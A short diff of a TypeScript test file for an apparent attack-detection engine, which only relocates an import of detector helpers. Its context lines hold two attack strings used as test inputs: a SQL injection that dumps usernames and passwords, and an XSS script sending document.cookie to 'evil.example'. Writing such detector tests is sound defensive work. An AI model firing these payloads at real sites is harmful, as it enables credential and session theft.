@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { nearlyDecided, unsureDetectors } from '../../bench/lib/unsure.ts';
 import { categories } from '../../src/contract/category.ts';
 import { defaultPolicy, type Exclusion, type Policy } from '../../src/contract/policy.ts';
 import { noContext } from '../../src/contract/request.ts';
@@ -7,7 +8,6 @@ import type { Verdict } from '../../src/contract/verdict.ts';
 import { createEngine, type Engine } from '../../src/core/engine.ts';
 import { fixtureBodies } from '../support/fixtures.ts';
 import { attacks } from './attacks.ts';
-import { nearlyDecided, unsureDetectors } from './unsure.ts';
 
 const attack = "1' union select username, password from users -- -";
 const other = '<script>fetch("//evil.example/?"+document.cookie)</script>';
